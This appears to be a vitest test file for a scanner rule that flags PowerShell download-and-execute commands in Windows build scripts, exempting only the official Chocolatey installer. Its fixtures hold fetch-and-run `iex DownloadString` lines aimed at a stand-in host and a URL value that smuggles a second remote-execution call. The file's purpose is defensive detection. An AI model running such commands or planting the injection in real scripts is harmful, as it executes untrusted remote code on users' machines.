import { expect, test } from 'vitest';
import type { ContentFacts } from '../../src/core/facts/content-facts.js';
import scriptCommands from '../../src/rules/script-commands.js';

function strong(address: string): readonly (boolean | undefined)[] {
  const facts: ContentFacts = { path: 'windows/build.bat', kind: 'text', addresses: [], texts: [], runs: 'latent', hidden: [], loads: [], appeals: [], commands: [{ line: 1, text: `powershell iex ((New-Object Net.WebClient).DownloadString('${address}'))`, traits: ['fetches-and-runs'] }] };
  return scriptCommands.check(facts).map(({ isStrong }) => isStrong);
}

test('a script for Windows that brings the package manager of a machine for builds is no strong sign', () => {
  expect(strong('https://chocolatey.org/install.ps1')).toEqual([false]);
});

test.each(['https://host.invalid/install.ps1', 'https://chocolatey.org.host.invalid/install.ps1', 'http://chocolatey.org/install.ps1', 'https://chocolatey.org/api/v2/package/leaf', "https://chocolatey.org/install.ps1'));iex((leaf).DownloadString('https://host.invalid/a"])('one that brings something else is: %s', (address) => {
  expect(strong(address)).toEqual([true]);
});
